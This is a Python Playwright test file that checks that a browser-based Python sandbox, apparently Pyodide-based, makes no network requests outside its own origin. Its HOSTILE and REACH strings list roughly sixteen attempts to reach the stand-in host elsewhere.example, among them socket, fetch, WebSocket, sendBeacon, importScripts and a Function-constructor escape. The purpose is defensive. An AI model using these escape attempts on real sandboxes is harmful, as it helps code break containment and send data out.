"""Hostile programs ask nobody for anything: told by the browser's own log of its network, not by what a page can see."""

import json
from pathlib import Path

from playwright.sync_api import Playwright

from grader import Limits
from tests.browser.conftest import launch_chromium
from tests.browser.host import SUB_PATH, running_host
from tests.browser.runtime_probe import RELEASE, Probe, three_cases, verdicts, write_probe_site

ELSEWHERE = "elsewhere.example"
# Each attempt alone, whatever comes of the others: through Python's library, and through JavaScript if it is in reach.
HOSTILE = f"""
def f(x):
    attempts = [
        lambda: __import__("urllib.request").request.urlopen("http://{ELSEWHERE}/urllib"),
        lambda: __import__("socket").create_connection(("{ELSEWHERE}", 80), timeout=1),
        lambda: __import__("http.client").client.HTTPConnection("{ELSEWHERE}").request("GET", "/"),
        lambda: __import__("js").fetch("http://{ELSEWHERE}/js"),
        lambda: __import__("js").XMLHttpRequest.new().open("GET", "http://{ELSEWHERE}/xhr"),
        lambda: __import__("pyodide_js").loadPackage("http://{ELSEWHERE}/package.whl"),
        lambda: __import__("pyodide.http").http.open_url("http://{ELSEWHERE}/open"),
        lambda: __import__("webbrowser").open("http://{ELSEWHERE}/browser"),
        lambda: __import__("_pyodide_core").create_proxy(f).constructor.constructor("fetch('http://{ELSEWHERE}/proxy')")(),
        lambda: __import__("asyncio").run(__import__("asyncio").open_connection("{ELSEWHERE}", 80)),
    ]
    for attempt in attempts:
        try:
            attempt()
        except BaseException:
            pass
    return x
"""
# The same from JavaScript in a worker made as Python's is, for whoever gets that far.
REACH = f"""async () => {{
  const script = `
    const quietly = attempt => {{ try {{ return Promise.resolve(attempt()).catch(() => 0); }} catch {{ return 0; }} }};
    onmessage = async () => postMessage(await Promise.all([
      quietly(() => fetch("http://{ELSEWHERE}/fetch")),
      quietly(() => import("http://{ELSEWHERE}/import.js")),
      quietly(() => importScripts("http://{ELSEWHERE}/scripts.js")),
      quietly(() => new WebSocket("ws://{ELSEWHERE}/socket")),
      quietly(() => new EventSource("http://{ELSEWHERE}/events")),
      quietly(() => navigator.sendBeacon("http://{ELSEWHERE}/beacon", "x")),
    ]).then(() => "done"));`;
  const worker = new Worker("data:text/javascript," + encodeURIComponent(script));
  return new Promise(done => {{ worker.onmessage = event => done(event.data); worker.postMessage(0); }});
}}"""

OF_ITSELF = "not an origin"


def test_hostile_programs_ask_nobody(playwright: Playwright, tmp_path: Path) -> None:
    log = tmp_path / "net.json"
    write_probe_site(tmp_path / "site")
    with running_host(tmp_path / "site") as host:
        with launch_chromium(playwright, f"--log-net-log={log}") as browser:
            page = browser.new_page()
            probe = Probe(page, host.address)
            assert "ready" == probe.ready()["phase"]
            host.asked.clear()
            assert ["passed"] * 3 == verdicts(probe.run(three_cases(limits=Limits(time_s=60)), HOSTILE))
            assert "done" == probe.keeper.evaluate(REACH)
            page.wait_for_timeout(300)
            browser.close()
        assert [] == host.asked
        asked = addresses(log)

    own = host.address.removesuffix(f"{SUB_PATH}/")
    assert f"{host.address}runtime/supply.js?{RELEASE}" in asked
    assert [] == [address for address in asked if not address.startswith((own, "data:", "blob:"))]
    assert ELSEWHERE not in log.read_text("utf-8")


def addresses(log: Path) -> list[str]:
    """Every address that a page, a frame or a worker made the browser ask for; it asks for some of its own accord."""
    content = json.loads(log.read_text("utf-8"))
    begun = content["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    return [
        event["params"]["url"]
        for event in content["events"]
        if event["type"] == begun and event.get("params", {}).get("initiator", OF_ITSELF) != OF_ITSELF
    ]
